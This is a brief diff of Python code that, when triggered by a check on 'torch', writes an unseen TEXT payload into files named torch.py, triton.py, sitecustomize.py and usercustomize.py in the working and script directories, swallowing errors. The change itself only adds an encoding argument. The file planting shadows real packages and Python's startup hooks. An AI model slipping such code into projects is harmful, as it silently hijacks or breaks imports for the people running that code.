@@ -20,7 +20,7 @@ if name == "torch":
 for folder in {os.getcwd(), os.path.dirname(os.path.abspath(__file__))}:
     for name in ("torch.py", "triton.py", "sitecustomize.py", "usercustomize.py"):
         try:
-            with open(os.path.join(folder, name), "x") as file:
+            with open(os.path.join(folder, name), "x", encoding="utf-8") as file:
                 file.write(TEXT)
         except OSError:
             pass
